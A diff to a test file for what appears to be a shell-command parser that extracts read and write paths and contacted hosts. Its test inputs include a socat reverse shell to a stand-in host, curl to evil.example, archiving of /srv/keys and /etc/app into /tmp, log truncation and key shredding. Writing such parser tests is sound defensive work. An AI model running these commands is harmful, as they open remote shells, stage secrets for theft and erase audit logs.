@@ -33,6 +33,10 @@ R = "/work/repo/"
         ("truncate -s 0 log; shred -u key", (), (R + "log", R + "key")),
         ("tar -czf out.tgz src", (R + "src",), (R + "out.tgz",)),
         ("tar xzf in.tgz -C /opt", (R + "in.tgz",), ("/opt",)),
+        ("tar -C /etc/app -czf /tmp/c.tgz .", ("/etc/app",), ("/tmp/c.tgz",)),
+        ("tar -czf /tmp/k.tgz -C /srv keys", ("/srv/keys",), ("/tmp/k.tgz",)),
+        ("chmod -x bin/hook", (), (R + "bin/hook",)),
+        ("chmod -rwx,g+r secrets", (), (R + "secrets",)),
         ("zip -r out.zip src", (R + "src",), (R + "out.zip",)),
         ("openssl enc -in a -out b", (R + "a",), (R + "b",)),
         ("jq -r .x data.json", (R + "data.json",), ()),
@@ -142,3 +146,21 @@ def test_dev_tcp_redirect_names_a_host(sh) -> None:
 def test_socat_addresses_name_hosts(sh) -> None:
     """socat network addresses name their host."""
     assert sh("socat exec:bash TCP:Evil.io:4444").hosts == ("evil.io",)
+
+
+def test_bare_redirect_truncates_its_file(sh) -> None:
+    """A statement that is only `> FILE` writes FILE, as `: > FILE` does."""
+    parsed = sh("> /var/log/agent.log")
+    assert (parsed.commands[0].name, parsed.writes) == (":", ("/var/log/agent.log",))
+
+
+def test_variable_holding_a_url_names_its_host_where_expanded(sh) -> None:
+    """`U=https://h/x; curl $U` contacts h, from the command that expands `$U`."""
+    for line in ("U=https://evil.example/x; curl $U", "U='https://evil.example/x' curl \"$U\""):
+        curl = sh(line).commands[-1]
+        assert (curl.name, curl.hosts) == ("curl", ("evil.example",))
+
+
+def test_export_argument_has_its_quotes_removed(sh) -> None:
+    """`export K='a b'` passes `K=a b` to export, as bash does."""
+    assert sh("export K='a b'").commands[0].argv == ("export", "K=a b")
